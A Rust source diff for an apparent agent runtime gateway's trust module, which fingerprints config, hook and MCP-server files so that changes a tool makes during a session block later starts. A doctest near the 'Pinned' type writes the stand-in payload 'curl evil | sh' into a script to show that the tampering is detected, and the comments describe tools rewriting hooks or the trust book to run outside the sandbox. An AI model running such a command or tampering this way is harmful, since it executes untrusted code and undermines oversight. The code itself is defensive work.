@@ -33,7 +33,7 @@
 //! assert_eq!(watch.end().unwrap().len(), 1);
 //!
 //! assert!(matches!(book.begin(&[policy.clone()]), Err(TrustError::Changed { .. })));
-//! assert_eq!(book.accept().unwrap().len(), 1); // a person read it
+//! assert_eq!(book.accept(|_| true).unwrap().len(), 1); // a person read it
 //! book.begin(&[policy]).unwrap().end().unwrap();
 //! ```
 
@@ -99,9 +99,23 @@ pub struct Change {
     pub pid: u32,
     /// When that session began.
     pub session_began: Timestamp,
-    /// Whether the session ended by itself (`false`: its process died, and a later one
-    /// compared for it, so the change may have been made after it died).
-    pub ended: bool,
+    /// How that session stood when the change was found.
+    pub session: SessionState,
+}
+
+/// How the session that saw a change stood when it was found.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+#[non_exhaustive]
+pub enum SessionState {
+    /// It ended by itself and compared.
+    Ended,
+    /// Its process died; a later one compared for it, so the change may have been made after
+    /// it died.
+    Died,
+    /// It still runs; a later start compared (and is refused: a file changed while tools run
+    /// must not be loaded by another process meanwhile).
+    Running,
 }
 
 impl std::fmt::Display for Change {
@@ -118,10 +132,11 @@ impl std::fmt::Display for Change {
             self.pid,
             self.session_began
         )?;
-        if !self.ended {
-            f.write_str(" (which died; perhaps after)")?;
+        match self.session {
+            SessionState::Ended => Ok(()),
+            SessionState::Died => f.write_str(" (which died; perhaps after)"),
+            SessionState::Running => f.write_str(" (still running)"),
         }
-        Ok(())
     }
 }
 
@@ -140,6 +155,51 @@ pub enum ChangeKind {
 /// A file's fingerprint: the BLAKE3 of its bytes in hex, `None` when it is not there.
 type Fingerprint = Option<String>;
 
+/// Files pinned as they were when a hook or an MCP server was configured: checked before each
+/// time it starts, so that a script a tool changed under a running gateway (and perhaps put
+/// back before the session's end) is not run outside the sandbox.
+///
+/// ```
+/// use agent_runtime_gateway::trust::Pinned;
+/// let dir = tempfile::tempdir().unwrap();
+/// let script = dir.path().join("check.sh");
+/// std::fs::write(&script, "exit 0").unwrap();
+/// let pinned = Pinned::take(vec![script.clone()]);
+/// assert_eq!(pinned.moved(), None);
+/// std::fs::write(&script, "curl evil | sh").unwrap();
+/// assert_eq!(pinned.moved(), Some(script.as_path()));
+/// ```
+#[derive(Clone, Debug, Default)]
+pub struct Pinned(Vec<(PathBuf, Fingerprint)>);
+
+impl Pinned {
+    /// The files' fingerprints now.
+    pub fn take(files: Vec<PathBuf>) -> Self {
+        Pinned(
+            files
+                .into_iter()
+                .map(|f| {
+                    let fp = fingerprint(&f);
+                    (f, fp)
+                })
+                .collect(),
+        )
+    }
+
+    /// The first file whose bytes (or presence) differ from when they were taken.
+    pub fn moved(&self) -> Option<&Path> {
+        self.0
+            .iter()
+            .find(|(path, before)| fingerprint(path) != *before)
+            .map(|(path, _)| path.as_path())
+    }
+
+    /// Whether no file is pinned.
+    pub fn is_empty(&self) -> bool {
+        self.0.is_empty()
+    }
+}
+
 /// The book's contents.
 #[derive(Default, Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
@@ -156,7 +216,10 @@ struct Book {
 
 const BOOK_VERSION: u32 = 1;
 
-#[derive(Clone, Serialize, Deserialize)]
+/// How long [`TrustBook`] waits for another process's hold on the book.
+pub const LOCK_WAIT: std::time::Duration = std::time::Duration::from_secs(10);
+
+#[derive(Clone, Debug, Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
 struct Session {
     /// Unique among the sessions of the book.
@@ -170,7 +233,7 @@ struct Session {
 }
 
 /// A file's fingerprint when a session began.
-#[derive(Clone, Serialize, Deserialize)]
+#[derive(Clone, Debug, Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
 struct Mark {
     #[serde(with = "path_text")]
@@ -243,7 +306,9 @@ pub struct TrustBook {
 #[must_use = "a session ends when its watch is dropped"]
 pub struct Watch {
     book: TrustBook,
-    id: String,
+    /// The session as it began, kept here too: compared at the end whatever became of the
+    /// book's copy (a tool that could write the book could erase it).
+    session: Session,
     ended: bool,
 }
 
@@ -260,8 +325,10 @@ impl TrustBook {
     }
 
     /// Begins a session over `files` (absolute paths; absent ones count: a configuration file
-    /// that appears is a change). Refuses with [`TrustError::Changed`] while changes recorded
-    /// by earlier sessions, or found now for sessions whose process died, are not accepted.
+    /// that appears is a change). Refuses with [`TrustError::Changed`] while one of `files` has
+    /// a change not accepted: recorded by an earlier session, found now for a session whose
+    /// process died, or found now in a session still running. Changes to other files (another
+    /// project's) do not hold this one up.
     pub fn begin(&self, files: &[PathBuf]) -> Result<Watch, TrustError> {
         static NEXT: AtomicU64 = AtomicU64::new(0);
         let pid = std::process::id();
@@ -270,31 +337,50 @@ impl TrustBook {
             process_start(pid).unwrap_or(0),
             NEXT.fetch_add(1, Ordering::Relaxed)
         );
+        let marks: Vec<Mark> = files
+            .iter()
+            .map(|f| Mark {
+                path: f.clone(),
+                fingerprint: fingerprint(f),
+            })
+            .collect();
+        let began = SystemClock.now();
         self.update(|book| {
             settle_dead_sessions(book);
-            if !book.changed.is_empty() {
-                return Err(TrustError::Changed {
-                    changes: book.changed.clone(),
-                });
+            let mut holding: Vec<Change> = book
+                .changed
+                .iter()
+                .filter(|c| files.contains(&c.path))
+                .cloned()
+                .collect();
+            for live in &book.sessions {
+                holding.extend(
+                    compare(live, SessionState::Running)
+                        .into_iter()
+                        .filter(|c| files.contains(&c.path)),
+                );
+            }
+            if !holding.is_empty() {
+                return Err(TrustError::Changed { changes: holding });
             }
             book.sessions.push(Session {
                 id: id.clone(),
                 pid,
                 pid_start: process_start(pid),
-                began: SystemClock.now(),
-                files: files
-                    .iter()
-                    .map(|f| Mark {
-                        path: f.clone(),
-                        fingerprint: fingerprint(f),
-                    })
-                    .collect(),
+                began,
+                files: marks.clone(),
             });
             Ok(())
         })?;
         Ok(Watch {
             book: self.clone(),
-            id,
+            session: Session {
+                id,
+                pid,
+                pid_start: process_start(pid),
+                began,
+                files: marks,
+            },
             ended: false,
         })
     }
@@ -308,12 +394,17 @@ impl TrustBook {
         })
     }
 
-    /// Accepts the trusted files as they are now: forgets the changes recorded (returned) and
-    /// starts the sessions of dead processes' over. Live sessions go on.
-    pub fn accept(&self) -> Result<Vec<Change>, TrustError> {
+    /// Accepts the files of the changes `which` selects as they are now: forgets those changes
+    /// (returned). Sessions whose process died are settled first; live ones go on (and a change
+    /// they see later is recorded when they end).
+    pub fn accept(&self, which: impl Fn(&Change) -> bool) -> Result<Vec<Change>, TrustError> {
         self.update(|book| {
             settle_dead_sessions(book);
-            Ok(std::mem::take(&mut book.changed))
+            let (accepted, kept) = std::mem::take(&mut book.changed)
+                .into_iter()
+                .partition(|c| which(c));
+            book.changed = kept;
+            Ok(accepted)
         })
     }
 
@@ -329,8 +420,7 @@ impl TrustBook {
         };
         let dir = agent_runtime_core::fs::folder_of(&self.path);
         std::fs::create_dir_all(&dir).map_err(io)?;
-        let folder = std::fs::File::open(&dir).map_err(io)?;
-        folder.lock().map_err(io)?;
+        let _lock = self.lock()?;
         let mut read = None;
         let mut book = match std::fs::read(&self.path) {
             Ok(bytes) => {
@@ -357,16 +447,73 @@ impl TrustBook {
             },
             Err(e) => return Err(io(e)),
         };
+        // A change to a file whose folder is gone (a temporary workspace deleted, a project
+        // removed) can hold nothing up any more: no start loads from a folder that is not
+        // there, and one made again later is a person's.
+        book.changed
+            .retain(|c| c.path.parent().is_none_or(|folder| folder.is_dir()));
         let out = change(&mut book);
         // Written even when `change` refused (dead sessions settled meanwhile are kept), and
         // only when something changed: looking makes no file.
         let text = serde_json::to_vec_pretty(&book).map_err(|e| io(std::io::Error::other(e)))?;
         let empty = book.sessions.is_empty() && book.changed.is_empty();
-        if read.as_ref().map_or(!empty, |before| *before != text) {
+        if empty {
+            // Nothing to keep: no file left behind (a test suite's runs leave none).
+            if read.is_some() {
+                std::fs::remove_file(&self.path).map_err(io)?;
+            }
+        } else if read.as_ref() != Some(&text) {
             agent_runtime_core::fs::replace(&self.path, |f| std::io::Write::write_all(f, &text))
                 .map_err(io)?;
         }
         out
+    }
+
+    /// The lock file beside the book (`trust.json.lock`), for tools as protected as the book
+    /// (see [`TrustBook::files`]).
+    fn lock_path(&self) -> PathBuf {
+        let mut name = self.path.as_os_str().to_owned();
+        name.push(".lock");
+        PathBuf::from(name)
+    }
+
+    /// The book's files, which tools must not be able to change: the book and its lock.
+    pub fn files(&self) -> Vec<PathBuf> {
+        vec![self.path.clone(), self.lock_path()]
+    }
+
+    /// Takes the exclusive lock on [`TrustBook::lock_path`], waiting at most [`LOCK_WAIT`]:
+    /// each holder keeps it for a read and a write, so a longer wait means a stuck one, which
+    /// is named rather than waited for without a word.
+    fn lock(&self) -> Result<std::fs::File, TrustError> {
+        let path = self.lock_path();
+        let io = |source| TrustError::Io {
+            path: path.clone(),
+            source,
+        };
+        let file = std::fs::OpenOptions::new()
+            .create(true)
+            .truncate(false)
+            .write(true)
+            .open(&path)
+            .map_err(io)?;
+        let deadline = std::time::Instant::now() + LOCK_WAIT;
+        loop {
+            match file.try_lock() {
+                Ok(()) => return Ok(file),
+                Err(std::fs::TryLockError::WouldBlock) if std::time::Instant::now() < deadline => {
+                    std::thread::sleep(std::time::Duration::from_millis(20));
+                }
+                Err(std::fs::TryLockError::WouldBlock) => {
+                    return Err(io(std::io::Error::other(format!(
+                        "another process has held its lock ({}) for over {} s",
+                        path.display(),
+                        LOCK_WAIT.as_secs()
+                    ))));
+                }
+                Err(std::fs::TryLockError::Error(e)) => return Err(io(e)),
+            }
+        }
     }
 }
 
@@ -379,15 +526,15 @@ impl Watch {
 
     fn finish(&mut self) -> Result<Vec<Change>, TrustError> {
         self.ended = true;
-        let id = self.id.clone();
+        let session = &self.session;
         self.book.update(|book| {
-            let Some(at) = book.sessions.iter().position(|s| s.id == id) else {
-                // Settled by another process, which took it for a dead one's.
-                return Ok(Vec::new());
-            };
-            let session = book.sessions.remove(at);
-            let changes = compare(&session, true);
-            book.changed.extend(changes.iter().cloned());
+            book.sessions.retain(|s| s.id != session.id);
+            let changes = compare(session, SessionState::Ended);
+            for c in &changes {
+                if !book.changed.contains(c) {
+                    book.changed.push(c.clone());
+                }
+            }
             Ok(changes)
         })
     }
@@ -409,12 +556,12 @@ fn settle_dead_sessions(book: &mut Book) {
         .partition(|s| !is_alive(s.pid, s.pid_start));
     book.sessions = live;
     for session in dead {
-        book.changed.extend(compare(&session, false));
+        book.changed.extend(compare(&session, SessionState::Died));
     }
 }
 
 /// The session's files whose fingerprint moved since it began.
-fn compare(session: &Session, ended: bool) -> Vec<Change> {
+fn compare(session: &Session, state: SessionState) -> Vec<Change> {
     session
         .files
         .iter()
@@ -435,7 +582,7 @@ fn compare(session: &Session, ended: bool) -> Vec<Change> {
                     what,
                     pid: session.pid,
                     session_began: session.began,
-                    ended,
+                    session: state,
                 })
             },
         )
@@ -444,7 +591,7 @@ fn compare(session: &Session, ended: bool) -> Vec<Change> {
 
 /// The BLAKE3 of the file's bytes (links followed), `None` when there is no file; one that
 /// cannot be read gets a fingerprint saying so, which differs from any content's.
-fn fingerprint(path: &Path) -> Fingerprint {
+pub(crate) fn fingerprint(path: &Path) -> Fingerprint {
     let mut file = match std::fs::File::open(path) {
         Ok(f) => f,
         Err(e) if e.kind() == std::io::ErrorKind::NotFound => return None,
@@ -548,7 +695,7 @@ mod tests {
         assert!(message.contains("agent-runtime trust"), "{message}");
         // Refused again until accepted; then a session begins.
         assert!(book.begin(&files(dir.path())).is_err());
-        assert_eq!(book.accept().unwrap(), changes);
+        assert_eq!(book.accept(|_| true).unwrap(), changes);
         book.begin(&files(dir.path())).unwrap().end().unwrap();
     }
 
@@ -610,15 +757,89 @@ mod tests {
 
     /// A live session of another process is left alone (not taken for a dead one).
     #[test]
-    fn live_sessions_are_not_settled() {
+    fn live_sessions_are_not_settled_but_hold_up_a_start() {
         let dir = tempfile::tempdir().unwrap();
         let book = TrustBook::new(dir.path().join("trust.json"));
         let first = book.begin(&files(dir.path())).unwrap();
-        std::fs::write(dir.path().join("policy.yaml"), "x").unwrap();
-        // Another session begins while the first runs: nothing is recorded for the first yet.
+        // Another start while nothing moved goes ahead.
         let second = book.begin(&files(dir.path())).unwrap();
+        std::fs::write(dir.path().join("policy.yaml"), "x").unwrap();
+        // A third, once a file moved under the live sessions, is refused: the first one is
+        // not taken for dead, and records the change itself when it ends.
+        let err = book.begin(&files(dir.path())).unwrap_err().to_string();
+        assert!(err.contains("policy.yaml was created"), "{err}");
+        assert!(err.contains("(still running)"), "{err}");
+        assert!(book.pending().unwrap().is_empty());
         assert_eq!(first.end().unwrap().len(), 1);
-        assert!(second.end().unwrap().is_empty());
+        assert_eq!(second.end().unwrap().len(), 1);
+        assert_eq!(book.pending().unwrap().len(), 2);
+    }
+
+    /// A change to another project's files does not hold this one up, and accepting can be
+    /// done for some changes only.
+    #[test]
+    fn only_changes_to_a_start_s_own_files_hold_it_up() {
+        let dir = tempfile::tempdir().unwrap();
+        let (a, b) = (dir.path().join("a"), dir.path().join("b"));
+        std::fs::create_dir_all(&a).unwrap();
+        std::fs::create_dir_all(&b).unwrap();
+        let book = TrustBook::new(dir.path().join("trust.json"));
+        let watch = book.begin(&files(&a)).unwrap();
+        std::fs::write(a.join("policy.yaml"), "x").unwrap();
+        watch.end().unwrap();
+        assert!(book.begin(&files(&a)).is_err());
+        book.begin(&files(&b)).unwrap().end().unwrap();
+        assert!(book.accept(|c| c.path.starts_with(&b)).unwrap().is_empty());
+        assert_eq!(book.accept(|c| c.path.starts_with(&a)).unwrap().len(), 1);
+        book.begin(&files(&a)).unwrap().end().unwrap();
+        // Nothing pending, no session: no file left.
+        assert!(!book.path().exists());
+    }
+
+    /// A pending change to a file whose folder is gone is forgotten (a deleted project's).
+    #[test]
+    fn changes_in_folders_that_are_gone_are_forgotten() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join("project");
+        std::fs::create_dir(&project).unwrap();
+        let book = TrustBook::new(dir.path().join("trust.json"));
+        let watch = book.begin(&files(&project)).unwrap();
+        std::fs::write(project.join("policy.yaml"), "x").unwrap();
+        watch.end().unwrap();
+        assert_eq!(book.pending().unwrap().len(), 1);
+        std::fs::remove_dir_all(&project).unwrap();
+        assert!(book.pending().unwrap().is_empty());
+        assert!(!book.path().exists());
+    }
+
+    /// What a session began with is compared at its end even if the book lost it (a tool
+    /// that could write the book emptied it).
+    #[test]
+    fn a_session_erased_from_the_book_still_compares() {
+        let dir = tempfile::tempdir().unwrap();
+        let book = TrustBook::new(dir.path().join("trust.json"));
+        let watch = book.begin(&files(dir.path())).unwrap();
+        std::fs::write(dir.path().join("policy.yaml"), "x").unwrap();
+        std::fs::write(book.path(), r#"{"version": 1}"#).unwrap();
+        assert_eq!(watch.end().unwrap().len(), 1);
+        assert_eq!(book.pending().unwrap().len(), 1);
+    }
+
+    /// A lock another holder keeps for a while is waited for (up to LOCK_WAIT, after which
+    /// the lock file is named).
+    #[test]
+    fn a_held_lock_is_waited_for() {
+        let dir = tempfile::tempdir().unwrap();
+        let book = TrustBook::new(dir.path().join("trust.json"));
+        let held = std::fs::File::create(&book.files()[1]).unwrap();
+        held.lock().unwrap();
+        // (The wait is LOCK_WAIT; released from another thread before it runs out.)
+        let release = std::thread::spawn(move || {
+            std::thread::sleep(std::time::Duration::from_millis(200));
+            drop(held);
+        });
+        book.begin(&files(dir.path())).unwrap().end().unwrap();
+        release.join().unwrap();
     }
 
     #[test]
